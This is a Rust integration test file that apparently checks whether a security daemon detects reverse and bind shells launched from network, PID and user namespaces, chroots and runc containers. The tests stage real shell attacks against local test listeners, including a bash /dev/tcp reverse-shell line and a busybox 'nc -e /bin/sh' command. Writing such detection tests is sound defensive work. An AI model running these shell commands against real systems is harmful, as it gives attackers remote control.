//! Attacks from inside network, PID, mount and user namespaces, chroots and containers.

#![allow(
    clippy::unwrap_used,
    clippy::expect_used,
    clippy::panic,
    reason = "a test's helpers may fail the test wherever they are"
)]

mod common;

use std::os::unix::fs::symlink;
use std::path::Path;
use std::process::{Command, Stdio};
use std::sync::atomic::{AtomicU8, Ordering};

use common::attacker::{Listener, Session};
use common::daemon::Daemon;
use common::expected::{Expected, prove, prove_session};
use common::notes::note;
use common::programs::program;
use common::token;
use common::victim::Victim;

/// Runs a program to its end, which has to be a good one.
fn run(program: &str, arguments: &[&str]) {
    let output = Command::new(program).args(arguments).stdin(Stdio::null()).output().unwrap();
    assert!(output.status.success(), "{program} {arguments:?}: {}", String::from_utf8_lossy(&output.stderr));
}

/// A network namespace joined to this one by a cable, gone when dropped.
struct Net {
    name: String,
    /// This machine's end.
    here: String,
    /// The end in the namespace.
    there: String,
}

impl Net {
    /// `block` are the first two numbers of its addresses: they decide the peer's scope.
    fn new(block: &str) -> Self {
        static NEXT: AtomicU8 = AtomicU8::new(1);
        let n = NEXT.fetch_add(1, Ordering::Relaxed);
        let (third, name) = (std::process::id() % 250, token());
        let subnet = |host: u32| format!("{block}.{third}.{}", u32::from(n) * 4 + host);
        let net = Self { here: subnet(1), there: subnet(2), name };
        let (outer, inner) = (format!("o{}", &net.name[4..]), format!("i{}", &net.name[4..]));
        run("ip", &["netns", "add", &net.name]);
        run("ip", &["link", "add", &outer, "type", "veth", "peer", "name", &inner, "netns", &net.name]);
        run("ip", &["addr", "add", &format!("{}/30", net.here), "dev", &outer]);
        run("ip", &["link", "set", &outer, "up"]);
        run("ip", &["-n", &net.name, "addr", "add", &format!("{}/30", net.there), "dev", &inner]);
        run("ip", &["-n", &net.name, "link", "set", &inner, "up"]);
        run("ip", &["-n", &net.name, "link", "set", "lo", "up"]);
        net
    }

    fn victim(&self, command: &[&str]) -> Victim {
        Victim::start("ip", &[&["netns", "exec", &self.name], command].concat())
    }
}

impl Drop for Net {
    fn drop(&mut self) {
        let _ = Command::new("ip").args(["netns", "del", &self.name]).status();
    }
}

/// The attack program, connecting to `port` and running a shell on all three descriptors.
fn attack(host: &str, port: u16) -> Vec<String> {
    let program = program("attack").to_string_lossy().into_owned();
    [&program, "dup", host, &port.to_string(), "012", "/bin/sh"].map(String::from).to_vec()
}

fn words(command: &[String]) -> Vec<&str> {
    command.iter().map(String::as_str).collect()
}

const SHELL: &[&str] = &["/bin/sh"];

#[test]
fn reverse_shell_from_another_network_namespace_to_a_private_peer() {
    require!("gcc", "ip");
    Daemon::shared();
    let net = Net::new("10.231");
    let attacker = Listener::at(&net.here);
    let victim = net.victim(&words(&attack(&net.here, attacker.port())));
    let expected = Expected { args: SHELL, severity: "CRITICAL", scope: "private", ..Expected::default() };
    prove(Daemon::shared(), &attacker, victim, &expected);
}

#[test]
fn reverse_shell_to_a_public_peer_names_it_as_an_indicator() {
    require!("gcc", "ip");
    Daemon::shared();
    let net = Net::new("203.0");
    let attacker = Listener::at(&net.here);
    let victim = net.victim(&words(&attack(&net.here, attacker.port())));
    let expected = Expected { args: SHELL, severity: "CRITICAL", scope: "public", ..Expected::default() };
    let found = prove(Daemon::shared(), &attacker, victim, &expected);
    assert_eq!(found.0["finding"]["indicator"]["ipAddresses"][0], net.here, "{}", found.brief());
}

#[test]
fn bind_shell_in_another_network_namespace() {
    require!("gcc", "ip");
    Daemon::shared();
    let net = Net::new("10.232");
    let program = program("attack");
    // The port is of the range that the kernel gives out: that it is listened on has to be seen in that namespace.
    let command = ["serve", &net.there, "40404", "1", "/bin/sh"];
    let victim = net.victim(&[&[program.to_str().unwrap()], &command[..]].concat());
    let session = Session::dial(&net.there, 40404);
    let expected = Expected {
        args: SHELL,
        severity: "CRITICAL",
        scope: "private",
        direction: "inbound",
        ..Expected::default()
    };
    prove_session(Daemon::shared(), session, victim, &expected);
}

#[test]
fn bind_shell_in_own_pid_mount_and_network_namespaces() {
    require!("gcc", "ip", "unshare");
    Daemon::shared();
    let net = Net::new("10.235");
    let program = program("attack");
    let unshare = ["unshare", "--pid", "--fork", "--mount-proc", "--kill-child"];
    let command = [program.to_str().unwrap(), "serve", &net.there, "40404", "1", "/bin/sh"];
    let victim = net.victim(&[&unshare[..], &command[..]].concat());
    let session = Session::dial(&net.there, 40404);
    let expected = Expected {
        args: SHELL,
        severity: "CRITICAL",
        scope: "private",
        direction: "inbound",
        inner_pid: true,
        ..Expected::default()
    };
    prove_session(Daemon::shared(), session, victim, &expected);
}

#[test]
fn own_pid_mount_network_and_ipc_namespaces() {
    require!("gcc", "ip", "unshare");
    Daemon::shared();
    let net = Net::new("10.233");
    let attacker = Listener::at(&net.here);
    let attack = attack(&net.here, attacker.port());
    let unshare = ["unshare", "--pid", "--fork", "--mount-proc", "--ipc", "--uts", "--kill-child"];
    let victim = net.victim(&[&unshare[..], &words(&attack)].concat());
    let expected = Expected {
        args: SHELL,
        severity: "CRITICAL",
        scope: "private",
        inner_pid: true,
        ..Expected::default()
    };
    prove(Daemon::shared(), &attacker, victim, &expected);
}

#[test]
fn own_user_namespace() {
    require!("gcc", "unshare");
    Daemon::shared();
    let attacker = Listener::tcp();
    let attack = attack("127.0.0.1", attacker.port());
    let unshare = ["--user", "--map-root-user"];
    let victim = Victim::start("unshare", &[&unshare[..], &words(&attack)].concat());
    prove(Daemon::shared(), &attacker, victim, &Expected { args: SHELL, ..Expected::default() });
}

#[test]
fn own_user_namespace_of_another_user() {
    require!("gcc", "unshare", "setpriv");
    Daemon::shared();
    let attacker = Listener::tcp();
    let directory = readable_directory();
    let mine = directory.path().join("attack");
    std::fs::copy(program("attack"), &mine).unwrap();
    let port = attacker.port().to_string();
    let user =
        ["--reuid", "65534", "--regid", "65534", "--clear-groups", "unshare", "--user", "--map-root-user"];
    let attack = [mine.to_str().unwrap(), "dup", "127.0.0.1", &port, "012", "/bin/sh"];
    let victim = Victim::start("setpriv", &[&user[..], &attack].concat());
    prove(
        Daemon::shared(),
        &attacker,
        victim,
        &Expected { args: SHELL, uid: "65534", ..Expected::default() },
    );
}

fn readable_directory() -> tempfile::TempDir {
    use std::os::unix::fs::PermissionsExt;
    let directory = tempfile::tempdir().unwrap();
    std::fs::set_permissions(directory.path(), PermissionsExt::from_mode(0o755)).unwrap();
    directory
}

/// The socket was made here and its user has moved to a namespace where nothing of that is known.
#[test]
fn a_socket_of_another_network_namespace_than_its_user() {
    require!("bash", "unshare");
    Daemon::shared();
    let attacker = Listener::tcp();
    let line = format!("exec 5<>/dev/tcp/127.0.0.1/{}; exec unshare --net sh <&5 >&5 2>&5", attacker.port());
    let victim = Victim::start("/bin/bash", &["-c", &line]);
    prove(Daemon::shared(), &attacker, victim, &Expected::default());
}

/// A root directory with a static busybox and nothing else.
fn busybox_root(at: &Path) {
    for directory in ["bin", "proc", "dev", "sys", "tmp"] {
        std::fs::create_dir_all(at.join(directory)).unwrap();
    }
    std::fs::copy(common::which("busybox").unwrap(), at.join("bin/busybox")).unwrap();
    for applet in ["sh", "cat", "nc"] {
        symlink("busybox", at.join("bin").join(applet)).unwrap();
    }
    std::fs::copy(program("attack"), at.join("bin/attack")).unwrap();
}

#[test]
fn chroot_with_busybox() {
    require!("gcc", "busybox", "chroot");
    Daemon::shared();
    let attacker = Listener::tcp();
    let directory = tempfile::tempdir().unwrap();
    busybox_root(directory.path());
    let (root, port) = (directory.path().to_str().unwrap(), attacker.port().to_string());
    let victim = Victim::start("chroot", &[root, "/bin/attack", "dup", "127.0.0.1", &port, "012", "/bin/sh"]);
    let session = attacker.accept();
    // The kernel shows the path from the host's root: the chroot is in the host's mount namespace.
    let exe = directory.path().join("bin/busybox");
    let inside = ["/bin/busybox", exe.to_str().unwrap()];
    let mut session = session;
    let shell = session.shell_pid();
    let found = Daemon::shared().wait_for("the shell in the chroot", |record| {
        record.peer_port() == Some(attacker.port())
            && record.process(shell).is_some_and(|p| inside.iter().any(|path| p["binary"]["path"] == *path))
    });
    note(Daemon::shared(), &found);
    assert_eq!(found.row(), 1, "{}", found.brief());
    assert_eq!(found.severity(), "HIGH", "{}", found.brief());
    assert!(found.ran(&["/bin/sh"]), "{}", found.brief());
    session.exit();
    drop(victim);
}

/// Runs a real container; `own_network` gives it an empty network namespace instead of the host's.
struct Container {
    id: String,
    bundle: tempfile::TempDir,
}

impl Container {
    fn new(args: &[&str]) -> Self {
        let bundle = tempfile::tempdir().unwrap();
        busybox_root(&bundle.path().join("rootfs"));
        let spec = Command::new("runc").args(["spec"]).current_dir(bundle.path()).status().unwrap();
        assert!(spec.success());
        let config = bundle.path().join("config.json");
        let mut json: serde_json::Value = serde_json::from_slice(&std::fs::read(&config).unwrap()).unwrap();
        json["process"]["terminal"] = false.into();
        json["process"]["args"] = args.into();
        json["root"]["readonly"] = false.into();
        // The host's network, so that the attacker can be reached.
        let spaces = json["linux"]["namespaces"].as_array_mut().unwrap();
        spaces.retain(|space| space["type"] != "network");
        std::fs::write(&config, json.to_string()).unwrap();
        Self { id: token(), bundle }
    }

    fn start(&self) -> Victim {
        let mut command = Command::new("runc");
        command.args(["run", "--bundle"]).arg(self.bundle.path()).arg(&self.id);
        command.stdin(Stdio::null()).stdout(Stdio::null());
        Victim::spawn(command)
    }
}

impl Drop for Container {
    fn drop(&mut self) {
        let _ = Command::new("runc").args(["delete", "--force", &self.id]).stderr(Stdio::null()).status();
    }
}

/// runc itself can refuse for reasons of the machine (cgroups): then this cannot be shown here.
fn runc_works() -> bool {
    let container = Container::new(&["/bin/busybox", "true"]);
    let status = container.start().wait();
    status.success()
}

#[test]
fn reverse_shell_in_a_runc_container() {
    require!("gcc", "runc", "busybox");
    Daemon::shared();
    if !runc_works() {
        return common::impossible("runc cannot run a container");
    }
    let attacker = Listener::tcp();
    let port = attacker.port().to_string();
    let container = Container::new(&["/bin/attack", "dup", "127.0.0.1", &port, "012", "/bin/sh"]);
    let victim = container.start();
    let expected = Expected {
        args: SHELL,
        exe: "/bin/busybox",
        other_root: true,
        inner_pid: true,
        ..Expected::default()
    };
    let found = prove(Daemon::shared(), &attacker, victim, &expected);
    // runc gives the container a cgroup named like it; nothing else says that it is a container's.
    assert!(found.text("Cgroup_Path").contains(&container.id), "{}", found.text("Cgroup_Path"));
    assert!(!found.text("Container_Runtime").is_empty(), "{}", found.brief());
}

#[test]
fn busybox_netcat_in_a_runc_container() {
    require!("gcc", "runc", "busybox");
    Daemon::shared();
    if !runc_works() {
        return common::impossible("runc cannot run a container");
    }
    let attacker = Listener::tcp();
    let port = attacker.port().to_string();
    let container = Container::new(&["/bin/nc", "127.0.0.1", &port, "-e", "/bin/sh"]);
    let victim = container.start();
    let mut session = attacker.accept();
    session.shell_pid();
    let found = Daemon::shared().wait_for("busybox nc -e in a container", |record| {
        record.peer_port() == Some(attacker.port()) && record.ran(&["/bin/sh"])
    });
    assert_eq!(found.row(), 1, "{}", found.brief());
    assert_eq!(found.text("Process_Binary_Fullpath"), "/bin/busybox", "{}", found.brief());
    assert!(found.text("Cgroup_Path").contains(&container.id), "{}", found.text("Cgroup_Path"));
    session.exit();
    drop(victim);
}
